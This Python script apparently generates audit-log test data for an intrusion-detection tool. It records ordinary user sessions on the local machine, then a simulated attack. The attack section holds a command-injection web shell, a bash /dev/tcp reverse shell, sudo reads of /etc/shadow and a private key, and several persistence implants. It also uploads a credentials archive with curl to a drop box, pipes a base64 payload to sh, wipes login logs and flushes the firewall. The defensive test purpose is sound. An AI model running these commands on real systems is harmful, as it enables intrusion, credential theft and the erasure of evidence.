"""The second day plan of make_day.py (days "admin" and "bfuzzy"): the same
kind of ordinary work as the first plan, and a DIFFERENT intrusion, one
that starts at a web server and then works only through command lines.

    /opt/audit-notify-test/py/bin/python tests/data/days/make_day.py \
        --day admin --format RAW --out tests/data/days/admin.log

make_day.py hands --day admin|bfuzzy to record() here; everything else (the
private auditd, the ssh client, the manifest, the evidence, removing
foreign events, putting the machine back) is make_day.py's.

The day, after the rule load and SERVICE_START for ssh and for a "status"
web service (a `python3 -m http.server --cgi` run as www-data on
127.0.0.1, whose cgi-bin/status.py runs its `c` parameter with /bin/sh -c:
the web shell):

* ordinary work (at least what the first plan has): alice mistypes her
  password, then works in a pty (ls, cd, cat, grep, tail, wc, echo >> notes,
  ps, df, free, uname, id, date, ssh-keygen -l of her own key, history);
  bob runs `ssh host 'uptime; ls -l reports'` without a pty; bob mistypes,
  then SFTP put + get; opsadm (pty) `sudo ls /var/log` (password asked),
  `sudo apt-get install -y tree`, `su - bob -c id`, resets bob's password
  with `sudo sh -c 'echo "bob:..." | chpasswd'`; root runs cron.daily the way cron
  does; root (own session) `apt-get install -y pv`;
* the intrusion: from 127.0.0.66, the web shell runs
  `id; uname -a; cat /etc/passwd` as www-data, then a reverse shell
  (`bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'`) to a listener this
  script runs, and three commands over it; then "opsadm" logs in from
  127.0.0.66, first without a terminal (`ssh host "echo PASSWORD | sudo -S
  id"`), then with one: `sudo cat /etc/shadow`,
  `sudo cat /home/alice/.ssh/id_ed25519`, writes through sudo's command
  line only (`sudo sh -c 'echo ... > /etc/cron.d/zz-job'`,
  `printf ... | sudo tee /etc/systemd/system/zz-x.service`, a key appended
  to /root/.ssh/authorized_keys, a line appended to /etc/hosts,
  `sudo cp /tmp/x /usr/local/bin/ls`), `sudo setcap cap_setuid+ep` on a
  copy of python3 and runs it to get uid 0, archives /etc/shadow and
  /etc/ssh with tar and uploads the archive with `curl -T` to a PUT server
  this script runs, pipes a base64-decoded payload to sh, runs a program
  from /dev/shm, wipes wtmp (`: >`), btmp (`shred -u`) and lastlog
  (`truncate -s 0`), flushes the firewall (`iptables -F`,
  `iptables -P INPUT ACCEPT`), and logs out.

Before the capture it adds users alice (with an ed25519 key pair), bob,
opsadm (group sudo), a harmless iptables rule (DROP tcp to port 9,
discard) so the flush removes something, and installs iptables if it is
missing.  Afterwards it removes what make_day.cleanup() removes, plus this
plan's artefacts, every package that was not installed before (iptables and
its libraries, tree, pv), restores /etc/hosts, wtmp/btmp/lastlog and the
iptables rules (iptables-save before == after), and prints what it verified.

Foreign events are removed as in make_day.py, with one addition: a process
whose parent is ours (by the ppid= of the recorded SYSCALL records) is ours
too, because the web shell's children live shorter than the 50 ms /proc
sampling and have no auid.
"""

from __future__ import annotations

import hashlib
import http.client
import http.server
import json
import os
import re
import shutil
import socket
import subprocess
import tempfile
import threading
import time
import urllib.parse
from pathlib import Path

import make_day as md
from make_day import ATTACK_SRC, PASSWORDS, log, run

AUID_UNSET = 4294967295  # the web server's processes: no login session
ADMIN_PKG, ROOT_PKG = "tree", "pv"
SETUP_PKGS = ("iptables", "libcap2-bin", "curl")  # installed before the capture if missing
NEW_BOB_PASSWORD = "N3w-pass-bob!7"
PAYLOAD = "ZWNobyBoaQo="  # base64 of "echo hi"
ARTEFACTS = ("/etc/cron.d/zz-job", "/etc/systemd/system/zz-x.service", "/usr/local/bin/ls",
             "/tmp/x", "/tmp/.py3", "/tmp/.b.tgz", "/dev/shm/.k")
EXTRA_SNAP_FILES = ("/etc/hosts",)
# (not an address range: this machine reaches its package mirror through 203.0.113.x)
FIREWALL_RULE = ("-A", "INPUT", "-p", "tcp", "--dport", "9", "-j", "DROP")
ATTACK_KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK3vQm9pL2xT7yN4cR8wE1uZ6aD5fH0jG3kS9bV2nM4q "
              "op@vps-17")
CGI = '''#!/usr/bin/python3
# status page of the "status" web service
import os, subprocess, sys, urllib.parse
sys.stdout.write("Content-Type: text/plain\\r\\n\\r\\n")
sys.stdout.flush()
q = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", ""))
subprocess.run(["/bin/sh", "-c", q.get("c", ["uptime"])[0]], stderr=subprocess.STDOUT)
'''


def preflight():
    md.preflight()
    for p in ARTEFACTS:
        if os.path.lexists(p):
            raise SystemExit(f"{p} exists already; refusing")
    for p in (ADMIN_PKG, ROOT_PKG):
        if md.pkg_installed(p):
            raise SystemExit(f"package {p} is installed; refusing (the day installs it)")
    if not os.access("/usr/bin/python3", os.X_OK) or not shutil.which("base64"):
        raise SystemExit("python3/base64 missing")


def installed_packages():
    out = subprocess.run(["dpkg-query", "-W", "-f=${db:Status-Abbrev} ${Package}\n"],
                         capture_output=True, text=True, check=True).stdout
    return {line.split()[1] for line in out.split("\n") if line.startswith("ii ")}


def wait_for_apt(timeout=600):
    """Until no other apt or dpkg on this shared machine holds dpkg's lock
    (the admin would retry after "Could not get lock" too)."""
    import fcntl
    deadline = time.monotonic() + timeout
    with open("/var/lib/dpkg/lock-frontend", "a") as handle:
        while True:
            try:
                fcntl.lockf(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
                fcntl.lockf(handle, fcntl.LOCK_UN)
                return
            except OSError:
                if time.monotonic() > deadline:
                    raise RuntimeError("dpkg is locked by another process")
                time.sleep(1.0)


def firewall():
    """The filter rules as iptables -S lists them (None without iptables)."""
    if not shutil.which("iptables"):
        return None
    p = subprocess.run(["iptables", "-S"], capture_output=True, text=True)
    return p.stdout if p.returncode == 0 else f"error: {p.stderr.strip()}"


def setup(work, port):
    """make_day's setup (accounts, homes, sshd config), plus alice's key pair
    and the web service's files.  Not recorded."""
    made_ssh = md.setup(work, port)
    ssh_dir = Path("/home/alice/.ssh")
    ssh_dir.mkdir(mode=0o700, exist_ok=True)
    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice@laptop", "-f", str(ssh_dir / "id_ed25519"))
    run("chown", "-R", "alice:alice", str(ssh_dir))
    web = work / "web"
    (web / "cgi-bin").mkdir(parents=True)
    (web / "index.html").write_text("<html><body>status: ok</body></html>\n")
    (web / "cgi-bin" / "status.py").write_text(CGI)
    run("chmod", "-R", "a+rX", str(web))
    os.chmod(web / "cgi-bin" / "status.py", 0o755)
    return made_ssh


class PutStore(http.server.ThreadingHTTPServer):
    """The attacker's drop box: accepts PUT, keeps the sizes."""

    def __init__(self, port):
        self.received = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_PUT(h):  # noqa: N805
                n = int(h.headers.get("Content-Length") or 0)
                data = h.rfile.read(n)
                self.received.append((h.path, len(data)))
                h.send_response(201)
                h.send_header("Content-Length", "0")
                h.end_headers()

            def log_message(h, *a):  # noqa: N805
                pass

        super().__init__(("127.0.0.1", port), Handler)


def web_get(port, query, timeout=60):
    """GET /cgi-bin/status.py?c=QUERY from the attacker's address."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout, source_address=(ATTACK_SRC, 0))
    try:
        conn.request("GET", "/cgi-bin/status.py?" + urllib.parse.urlencode({"c": query}))
        body = conn.getresponse().read().decode(errors="replace")
    finally:
        conn.close()
    log(f"  [web shell] {query} -> {body.strip()[:300]!r}")
    return body


class Listener:
    """The attacker's end of a reverse shell (nc -lvp PORT)."""

    def __init__(self, port):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", port))
        self.sock.listen(1)
        self.sock.settimeout(20)
        self.conn = None

    def accept(self):
        self.conn, peer = self.sock.accept()
        self.conn.settimeout(0.3)
        log(f"  [listener] connection from {peer}")
        return self.read(2.0)

    def read(self, seconds):
        out, deadline = b"", time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                data = self.conn.recv(65536)
                if not data:
                    break
                out += data
            except socket.timeout:
                pass
        return out.decode(errors="replace")

    def send(self, cmd, wait=2.0):
        self.conn.sendall(cmd.encode() + b"\n")
        out = self.read(wait)
        log(f"  [reverse shell] {cmd} -> {out.strip()[:300]!r}")
        return out

    def close(self):
        for s in (self.conn, self.sock):
            if s is not None:
                s.close()


def the_day(m, work, port, web_port, put_store, rev_port):
    pw = PASSWORDS
    local = "127.0.0.1"
    src = ATTACK_SRC
    sudo_pw = [(r"\[sudo\] password for opsadm:", pw["opsadm"])]
    A = m.action
    SSH = md.SSH

    # -- ordinary work ---------------------------------------------------------
    with A("routine", "warning", "failed SSH password for alice from 127.0.0.1 (typo; retried in the same connection)",
           "alice", "ssh", local, "ssh alice@host (wrong password)", needles=['acct="alice"'], types=["USER_AUTH"]):
        alice = SSH(port, "alice", ["alice-day-4711", pw["alice"]])
    with A("routine", "info", "SSH login alice from 127.0.0.1 with a terminal (interactive)",
           "alice", "ssh", local, "ssh alice@host", needles=['acct="alice"'], types=["USER_LOGIN", "USER_START"]):
        sh = alice.shell()
    for cmd, needles in (("ls -la", []), ("cd docs", []), ("ls", []), ("cat todo.txt", ["todo.txt"]),
                         ("cd", []), ("grep -n meeting notes.txt", ["notes.txt"]),
                         ("tail -n 2 notes.txt", ["notes.txt"]), ("wc -l docs/todo.txt", ["todo.txt"])):
        with A("routine", "none", "alice: everyday shell work", "alice", "ssh", local, cmd, needles=needles):
            sh.run(cmd)
    with A("routine", "warning", "SSH login bob from 127.0.0.1 without a terminal (ssh host cmd)",
           "bob", "ssh", local, "ssh bob@host 'uptime; ls -l reports'",
           needles=['acct="bob"', "uptime"], types=["USER_START", "LOGIN"]):
        bob = SSH(port, "bob", [pw["bob"]])
        bob.exec("uptime; ls -l reports")
        bob.close()
    for cmd, needles in (('echo "- ask bob for the Q3 numbers" >> ~/notes.txt', ["notes.txt"]),
                         ("ps aux | head -5", []), ("df -h /", []), ("free -m", []), ("uname -a", ["uname"]),
                         ("id", []), ("date", []), ("ssh-keygen -l -f ~/.ssh/id_ed25519.pub", ["id_ed25519"]),
                         ("history | tail -5", [])):
        with A("routine", "none", "alice: everyday shell work", "alice", "ssh", local, cmd, needles=needles):
            sh.run(cmd)
    with A("routine", "none", "alice logs out", "alice", "ssh", local, "exit", needles=['acct="alice"'],
           types=["USER_END", "CRED_DISP"]):
        sh.exit()
        alice.close()

    with A("routine", "warning", "failed SSH password for bob from 127.0.0.1 (typo; retried in the same connection)",
           "bob", "ssh", local, "sftp bob@host (wrong password)", needles=['acct="bob"'], types=["USER_AUTH"]):
        bob = SSH(port, "bob", ["B0b-day-4771", pw["bob"]])
    with A("routine", "info", "SFTP session bob from 127.0.0.1: put upload/q3-report.csv, get notes.txt",
           "bob", "ssh", local, "sftp> put q3-report.csv upload/; get notes.txt",
           needles=["sftp-server", "q3-report.csv"], types=["USER_START"]):
        sftp = bob.sftp()
        sftp.put(str(work / "q3-report.csv"), "upload/q3-report.csv")
        time.sleep(1.0)
        sftp.get("notes.txt", str(work / "bob-notes.txt"))
        time.sleep(0.5)
        log("  sftp ls:", sftp.listdir("upload"))
        sftp.close()
        bob.close()

    with A("routine", "info", "SSH login opsadm from 127.0.0.1 with a terminal (interactive)",
           "opsadm", "ssh", local, "ssh opsadm@host", needles=['acct="opsadm"'], types=["USER_LOGIN"]):
        ops = SSH(port, "opsadm", [pw["opsadm"]])
        sh = ops.shell()
    with A("routine", "info", "sudo by opsadm: ls /var/log (password asked)", "opsadm", "sudo", local,
           "sudo ls /var/log", needles=["ls /var/log"], types=["USER_CMD"]):
        sh.run("sudo ls /var/log", sudo_pw)
    with A("routine", "info", f"package {ADMIN_PKG} installed by opsadm via sudo apt-get", "opsadm", "sudo", local,
           f"sudo apt-get install -y {ADMIN_PKG}", needles=[f"install -y {ADMIN_PKG}", f"/usr/bin/{ADMIN_PKG}"],
           types=["USER_CMD"]):
        wait_for_apt()
        out = sh.run(f"sudo apt-get install -y {ADMIN_PKG}", sudo_pw, timeout=300)
        if not md.pkg_installed(ADMIN_PKG):
            raise RuntimeError(f"apt-get install {ADMIN_PKG} failed: {out[-1500:]}")
    with A("routine", "info", "su by opsadm to bob: su - bob -c id", "opsadm", "su", local,
           "su - bob -c id", needles=['acct="bob"', "su - bob"], types=["USER_AUTH", "USER_START"]):
        sh.run("su - bob -c id", [(r"Password:", pw["bob"])])
    # the password on sudo's command line (sh -c), so it reaches the trail:
    # EXECVE and USER_CMD carry it
    reset = f"sudo sh -c 'echo \"bob:{NEW_BOB_PASSWORD}\" | chpasswd'"
    with A("routine", "info", "password of bob reset by opsadm via sudo sh -c '... | chpasswd'", "opsadm", "sudo",
           local, reset, needles=["chpasswd"], types=["USER_CMD", "USER_CHAUTHTOK"]):
        sh.run(reset, sudo_pw)
    with A("routine", "none", "opsadm logs out", "opsadm", "ssh", local, "exit", types=["USER_END", "CRED_DISP"]):
        sh.exit()
        ops.close()

    cron_env = {"PATH": "/usr/bin:/bin", "HOME": "/root", "LOGNAME": "root", "SHELL": "/bin/sh",
                "LANG": "C.UTF-8", "APT_CONFIG": str(work / "apt.conf")}
    with A("routine", "info", "cron: run-parts /etc/cron.daily as root (apt-compat, dpkg, man-db)",
           "root", "root (cron-like session, auid 0)", "-", "cd / && run-parts --report /etc/cron.daily",
           needles=["run-parts", "cron.daily", "dpkg-db-backup", "mandb"], types=["LOGIN"]):
        md.root_session(work, "cd / && run-parts --report /etc/cron.daily", cron_env)
    time.sleep(2)
    root_env = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/root",
                "LOGNAME": "root", "USER": "root", "SHELL": "/bin/bash", "LANG": "C.UTF-8", "TERM": "xterm",
                "DEBIAN_FRONTEND": "noninteractive"}
    with A("routine", "info", f"package {ROOT_PKG} installed by root (apt-get)", "root",
           "root (console-like session, auid 0)", "-", f"apt-get install -y {ROOT_PKG}",
           needles=[f"install -y {ROOT_PKG}", f"/usr/bin/{ROOT_PKG}"], types=["LOGIN"]):
        wait_for_apt()
        p = md.root_session(work, f"apt-get install -y {ROOT_PKG}", root_env)
        if not md.pkg_installed(ROOT_PKG):
            raise RuntimeError(f"apt-get install {ROOT_PKG} failed: {p.stdout[-1000:]} {p.stderr[-1000:]}")
    time.sleep(2)

    # -- the intrusion: a web shell ------------------------------------------------
    def web(label, command, needles, severity="critical", **kw):
        action = A("attack", severity, label, "www-data", "web server CGI child (www-data, no login)", src,
                   command, needles=needles, **kw)
        action.e["uid"] = AUID_UNSET  # its processes have no login session
        return action

    recon = "id; uname -a; cat /etc/passwd"
    with web(f"web shell: the web server's CGI child runs /bin/sh -c '{recon}' as www-data (request from {src})",
             f"/bin/sh -c '{recon}'", ["/bin/sh", "uname", "/etc/passwd", "status.py"]):
        web_get(web_port, recon)
    listener = Listener(rev_port)
    rev = f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{rev_port} 0>&1'"
    result = {}
    thread = threading.Thread(target=lambda: result.setdefault("body", web_get(web_port, rev, timeout=120)),
                              daemon=True)
    try:
        with web(f"reverse shell from the web shell: {rev} (as www-data)", rev,
                 ["/dev/tcp", "bash -i", "status.py"]):
            thread.start()
            log("  [listener]", listener.accept().strip()[:200])
        for cmd in ("id", "ls -la /tmp", "cat /etc/os-release"):
            with web(f"command over the reverse shell (www-data): {cmd}", cmd, [], pause=1.5):
                listener.send(cmd)
        with web("reverse shell closed: exit", "exit", [], severity="none"):
            listener.send("exit", wait=1.0)
            thread.join(30)
    finally:
        listener.close()

    # -- the intrusion: opsadm's account from a new address ----------------------
    # First a try of the stolen password and its sudo rights without a
    # terminal: sshd runs bash -c with the line, so the password is in its
    # EXECVE (where a rule logs users' commands).
    check = f"echo '{pw['opsadm']}' | sudo -S id"
    with A("attack", "warning", f"SSH login opsadm from {src} without a terminal: sudo with the password "
           "typed on the command line", "opsadm", "ssh", src, f'ssh opsadm@host "{check}"',
           needles=[src, "sudo -S"], types=["USER_START", "USER_CMD"]):
        atk = SSH(port, "opsadm", [pw["opsadm"]], source=src)
        atk.exec(check)
        atk.close()
    with A("attack", "warning", f"SSH login opsadm from {src} (new source address) with a terminal",
           "opsadm", "ssh", src, "ssh opsadm@host", needles=[src], types=["USER_LOGIN"]):
        atk = SSH(port, "opsadm", [pw["opsadm"]], source=src)
        sh = atk.shell()
    steps = (
        ("password hashes read by opsadm via sudo: cat /etc/shadow", "sudo cat /etc/shadow", ["/etc/shadow"]),
        ("another user's SSH private key read by opsadm via sudo: /home/alice/.ssh/id_ed25519",
         "sudo cat /home/alice/.ssh/id_ed25519", ["id_ed25519"]),
        ("cron job /etc/cron.d/zz-job written by opsadm through sudo sh -c",
         "sudo sh -c 'echo \"*/5 * * * * root /usr/local/bin/ls >/dev/null 2>&1\" > /etc/cron.d/zz-job'",
         ["zz-job"]),
        ("systemd unit /etc/systemd/system/zz-x.service written by opsadm through sudo tee",
         "printf '[Unit]\\nDescription=x\\n[Service]\\nExecStart=/usr/local/bin/ls\\n[Install]\\n"
         "WantedBy=multi-user.target\\n' | sudo tee /etc/systemd/system/zz-x.service >/dev/null",
         ["zz-x.service"]),
        ("ssh key appended to /root/.ssh/authorized_keys by opsadm through sudo sh -c",
         f"sudo sh -c 'echo {ATTACK_KEY} >> /root/.ssh/authorized_keys'", ["authorized_keys"]),
        ("/etc/hosts changed by opsadm through sudo sh -c: 127.0.0.1 updates.example",
         "sudo sh -c \"echo '127.0.0.1 updates.example' >> /etc/hosts\"", ["/etc/hosts", "updates.example"]),
        ("program shadowing ls installed by opsadm: sudo cp /tmp/x /usr/local/bin/ls",
         "printf '#!/bin/sh\\nexec /bin/ls \"$@\"\\n' > /tmp/x && chmod +x /tmp/x && sudo cp /tmp/x /usr/local/bin/ls",
         ["/usr/local/bin/ls", "/tmp/x"]),
        ("file capability cap_setuid+ep set by opsadm via sudo on a copy of python3: /tmp/.py3",
         "cp /usr/bin/python3 /tmp/.py3 && sudo setcap cap_setuid+ep /tmp/.py3", ["/tmp/.py3", "setcap"]),
        ("python copy with cap_setuid run by opsadm to become uid 0: /tmp/.py3",
         "/tmp/.py3 -c 'import os; os.setuid(0); os.execl(\"/bin/sh\", \"sh\", \"-c\", \"id\")'",
         ["/tmp/.py3"]),
        ("archive of /etc/shadow and /etc/ssh made by opsadm via sudo tar: /tmp/.b.tgz",
         "sudo tar czf /tmp/.b.tgz /etc/shadow /etc/ssh", [".b.tgz", "/usr/bin/tar"]),
        ("archive uploaded by opsadm with curl -T to 127.0.0.1 (the attacker's drop box)",
         f"curl -s -T /tmp/.b.tgz http://127.0.0.1:{put_store.server_address[1]}/b.tgz", [".b.tgz", "curl"]),
        ("base64-decoded payload piped to a shell by opsadm",
         f"echo '{PAYLOAD}' | base64 -d | sh", ["base64", PAYLOAD]),
        ("program run from /dev/shm by opsadm: /dev/shm/.k",
         "printf '#!/bin/sh\\nid\\n' > /dev/shm/.k && chmod +x /dev/shm/.k && /dev/shm/.k", ["/dev/shm/.k"]),
        ("login records wiped by opsadm through sudo sh -c: /var/log/wtmp",
         "sudo sh -c ': > /var/log/wtmp'", ["/var/log/wtmp"]),
        ("failed-login records destroyed by opsadm via sudo: shred -u /var/log/btmp",
         "sudo shred -u /var/log/btmp", ["/var/log/btmp", "shred"]),
        ("last-login records truncated by opsadm via sudo: truncate -s 0 /var/log/lastlog",
         "sudo truncate -s 0 /var/log/lastlog", ["/var/log/lastlog", "truncate"]),
        ("firewall flushed by opsadm via sudo: iptables -F", "sudo iptables -F", ["iptables -F", "iptables"]),
        ("firewall INPUT policy set to ACCEPT by opsadm via sudo", "sudo iptables -P INPUT ACCEPT",
         ["INPUT ACCEPT", "iptables"]),
    )
    for label, cmd, needles in steps:
        with A("attack", "critical", f"{label} (from {src})", "opsadm", "sudo" if "sudo" in cmd else "ssh", src,
               cmd, needles=needles, types=["USER_CMD"] if "sudo" in cmd else [], pause=3.0) as e:
            out = sh.run(cmd, sudo_pw)
            refused = [line for line in out.split("\n") if "iptables" in line and (
                "denied" in line or "not permitted" in line or "can't initialize" in line or "Failed" in line)]
            if refused:
                e["outcome"] = "failed: " + refused[0].strip()[:200]
    log("  drop box received:", put_store.received)
    with A("attack", "none", "opsadm logs out", "opsadm", "ssh", src, "exit", types=["USER_END", "CRED_DISP"]):
        sh.exit()
        atk.close()
    return [pw["opsadm"], NEW_BOB_PASSWORD]


def drop_status_query(text, ended):
    """The stream without the recorder's own `auditctl -s` (kernel_status(),
    after the day, to read the kernel's lost counter): a rule that logs
    root's commands records it, and it is no part of the day.  Returns
    (text, number of events removed)."""
    lines = text.split("\n")
    query = set()
    for line in lines:
        found = md._EVENT.search(line)
        if (found and line.startswith("type=SYSCALL ") and float(found.group(1)) > ended
                and ' comm="auditctl" exe="/usr/sbin/auditctl" ' in line):
            query.add(found.group(0))
    kept = [line for line in lines if not ((found := md._EVENT.search(line)) and found.group(0) in query)]
    return "\n".join(kept), len(query)


def processes_of(text, ours):
    """OURS plus every process whose parent is ours, by the pid/ppid pairs of
    the recorded SYSCALL records (children too short-lived for /proc
    sampling: a CGI's shell and its commands)."""
    pairs = [(int(a), int(b)) for a, b in re.findall(r" ppid=(\d+) pid=(\d+) ", text)]
    grown, changed = set(ours), True
    while changed:
        changed = False
        for ppid, pid in pairs:
            if ppid in grown and pid not in grown:
                grown.add(pid)
                changed = True
    return grown


def record(args):
    preflight()
    rules_path = Path(args.rules or md.HERE / f"{args.day}.rules")
    rule_lines = md.read_rule_lines(rules_path)
    out = Path(args.out)
    work = Path(tempfile.mkdtemp(prefix="an-day2-"))
    os.chmod(work, 0o755)
    snaps = ([md.FileSnap(p) for p in md.SNAP_FILES + EXTRA_SNAP_FILES]
             + [md.TreeSnap(p, str(work)) for p in md.SNAP_TREES])
    acct_snaps = [md.FileSnap(p) for p in md.ACCOUNT_FILES]
    backup_snaps = [md.FileSnap(p) for p in md.BACKUP_FILES]
    debs_before = set(os.listdir("/var/cache/apt/archives"))
    pkgs_before = installed_packages()
    our_pkgs = set()
    made_run_sshd = not os.path.exists("/run/sshd")
    made_run_sudo = not os.path.exists("/run/sudo")
    fw_before = None
    sshd = web = None
    put_store = None
    m = md.Manifest()
    stream = work / "stream.log"
    problems = []
    try:
        ports = set()
        while len(ports) < 4:
            ports.add(md.free_port())
        port, web_port, put_port, rev_port = sorted(ports)
        if made_run_sshd:
            os.mkdir("/run/sshd", 0o755)
        setup(work, port)
        missing = [p for p in SETUP_PKGS if not md.pkg_installed(p)]
        if missing:
            run("apt-get", "install", "-y", "-q", *missing, env=dict(os.environ, DEBIAN_FRONTEND="noninteractive"))
        # ours to purge afterwards: what that brought in, and the day's two
        # (packages other sessions install meanwhile are left alone)
        our_pkgs |= (installed_packages() - pkgs_before) | {ADMIN_PKG, ROOT_PKG}
        fw_before = firewall()
        run("iptables", *FIREWALL_RULE)
        rules_file = work / "audit.rules"
        rules_file.write_text("-c\n" + "\n".join(rule_lines) + "\n")
        os.chmod(rules_file, 0o600)
        put_store = PutStore(put_port)
        threading.Thread(target=put_store.serve_forever, daemon=True).start()
        log(f"waiting for the audit lock, then recording ({len(rule_lines)} rules from {rules_path})")
        watch = md.ProcWatch(os.getpid())
        watch.start()
        with md.private_auditd(work, plugin_path=str(work / "record.sh"), plugin_args=(str(stream),),
                               log_format=args.format, lock_timeout=3600) as ad:
            started = time.time()
            time.sleep(1.0)
            p = subprocess.run(["/usr/sbin/auditctl", "-R", str(rules_file)], capture_output=True, text=True)
            log(f"auditctl -R: rc {p.returncode} {p.stdout.strip()[-300:]!r} {p.stderr.strip()[-300:]!r}")
            if p.returncode != 0:
                raise RuntimeError("the rules did not all load; fix the .rules file first")
            time.sleep(2.0)
            md.service_message("start", "ssh")
            sshd = subprocess.Popen(["/usr/sbin/sshd", "-D", "-f", str(work / "sshd_config"),
                                     "-E", str(work / "sshd.log")],
                                    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                    stderr=subprocess.DEVNULL, start_new_session=True)
            md.wait_port(port, sshd, "sshd")
            time.sleep(1.0)
            md.service_message("start", "status-web")
            web = subprocess.Popen(["/usr/bin/python3", "-m", "http.server", "--cgi", str(web_port),
                                    "--bind", "127.0.0.1", "--directory", str(work / "web")],
                                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL, start_new_session=True,
                                   user=33, group=33, extra_groups=[], cwd=str(work / "web"),
                                   env={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/var/www",
                                        "LANG": "C.UTF-8"})
            md.wait_port(web_port, web, "web server")
            time.sleep(2.0)
            try:
                secrets = the_day(m, work, port, web_port, put_store, rev_port)
            except BaseException:
                if stream.exists():
                    shutil.copyfile(stream, str(out) + ".failed")
                    log(f"partial recording: {out}.failed")
                raise
            finally:
                time.sleep(2.0)
                md.stop(web, "web server")
                md.stop(sshd, "sshd")
                sshd = web = None
                ended = time.time()
                time.sleep(1.0)
            status = ad.kernel_status()
        watch.stop()
        daemon_msgs = ad.daemon_messages()
        raw = stream.read_bytes().decode("utf-8", errors="surrogateescape")
        if args.keep_foreign:
            text, removed = raw, {}
        else:
            text, removed = md.drop_foreign(raw, processes_of(raw, watch.pids | {ad.pid}))
            text, status_query = drop_status_query(text, ended)
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(text.encode("utf-8", errors="surrogateescape"))
        stats = md.log_stats(text)
        raw_stats = md.log_stats(raw)
        stats["captured_records"] = raw_stats["records"]
        stats["captured_events"] = raw_stats["events"]
        stats["foreign_events_removed"] = len(removed)
        stats["foreign_records_removed"] = sum(len(v) for v in removed.values())
        if not args.keep_foreign:
            stats["recorder_status_query_events_removed"] = status_query
        log(f"foreign events removed: {len(removed)}",
            *[f"{n} {w}" for w, n in list(md.describe_removed(removed).items())[:15]], sep="\n  ")
        stats["kernel_lost"] = status.get("lost")
        stats["auditd_messages"] = [x for x in daemon_msgs if "queue" in x or "plugin" in x][:20]
        added = len(re.findall(r"type=CONFIG_CHANGE .*op=add_rule.*res=1", text))
        stats["rules_in_file"] = len(rule_lines)
        stats["rules_added"] = added
        if added != len(rule_lines):
            log(f"WARNING: {added} add_rule records, {len(rule_lines)} rule lines")
        md.add_evidence(m.actions, [line for line in text.split("\n") if line])
        paths = md.write_outputs(args.day, args.format, out, m.actions, rules_path, stats, started, ended)
        add_plan_notes(paths[0], secrets, put_store.received)
        log(f"wrote {out} ({stats['records']} records, {stats['events']} events, "
            f"{os.path.getsize(out)} bytes), {paths[0]}, {paths[1]}")
        for a in m.actions:
            if a["kind"] == "attack" and a["severity"] != "none":
                log(f"  {'NO RECORD' if not a.get('evidence') else 'ok       '} {a['label'][:90]}: "
                    f"{'; '.join(a.get('evidence', []))[:120]}")
        log("kernel lost:", status.get("lost"), "auditd messages:", *daemon_msgs, sep="\n  ")
    finally:
        md.stop(web, "web server")
        md.stop(sshd, "sshd")
        if put_store is not None:
            put_store.shutdown()
            put_store.server_close()
        problems = cleanup(work, snaps, acct_snaps, backup_snaps, debs_before, pkgs_before, our_pkgs, fw_before,
                           made_run_sshd, made_run_sudo)
        shutil.rmtree(work, ignore_errors=True)
        if problems:
            log("CLEANUP PROBLEMS:", *problems, sep="\n  ")
        else:
            log("cleanup verified: accounts, files, packages, firewall and snapshots are as before")
    return 1 if problems else 0


def add_plan_notes(manifest_path, secrets, received):
    """The manifest's top-level "secrets" (passwords typed on command lines:
    no message may show them) and this plan's notes."""
    path = Path(manifest_path)
    man = json.loads(path.read_text())
    man["plan"] = "intrusion (tests/data/days/intrusion.py)"
    man["secrets"] = secrets
    man["notes"]["secrets"] = "passwords typed on command lines during the day (sudo -S, chpasswd); " \
                              "no message may show them"
    man["notes"]["www-data"] = "the web shell's actions have match.uid 4294967295 (auid unset): its " \
                               "processes belong to no login session"
    man["notes"]["drop_box"] = f"the PUT server received {received}"
    path.write_text(json.dumps(man, indent=1, ensure_ascii=False) + "\n")


def cleanup(work, snaps, acct_snaps, backup_snaps, debs_before, pkgs_before, our_pkgs, fw_before,
            made_run_sshd, made_run_sudo):
    """make_day.cleanup() (users, sl/figlet, its artefacts, snapshots), then
    this plan's artefacts, the packages that were not installed before and
    the firewall."""
    for p in ARTEFACTS:
        if os.path.lexists(p):
            os.unlink(p)
            log(f"removed {p}")
    problems = []
    if fw_before is not None and shutil.which("iptables"):
        saved = work / "iptables.before"
        # iptables -S lists rules; turn it back into iptables-restore input
        lines = [l for l in fw_before.split("\n") if l.startswith(("-P", "-N", "-A"))]
        policies = [l.split()[1:] for l in lines if l.startswith("-P")]
        body = ["*filter"] + [f":{c} {p} [0:0]" for c, p in policies] + \
               [l for l in lines if l.startswith(("-N", "-A"))] + ["COMMIT", ""]
        saved.write_text("\n".join(body))
        r = run("iptables-restore", str(saved), check=False)
        if r.returncode != 0:
            problems.append(f"iptables-restore: {r.stderr.strip()}")
    fw_after = firewall() if fw_before is not None else None
    new_pkgs = sorted((installed_packages() - pkgs_before) & our_pkgs)
    problems += md.cleanup(work, snaps, acct_snaps, backup_snaps, new_pkgs, debs_before,
                           made_run_sshd, made_run_sudo)
    if fw_before is not None and fw_after != fw_before:
        problems.append(f"firewall not as before: {fw_after!r} != {fw_before!r}")
    elif fw_before is not None:
        log(f"firewall as before ({len(fw_before.splitlines())} lines of iptables -S)")
    for p in ARTEFACTS:
        if os.path.lexists(p):
            problems.append(f"{p} still exists")
    left = (installed_packages() - pkgs_before) & our_pkgs
    if left:
        problems.append(f"packages still installed: {sorted(left)}")
    return problems
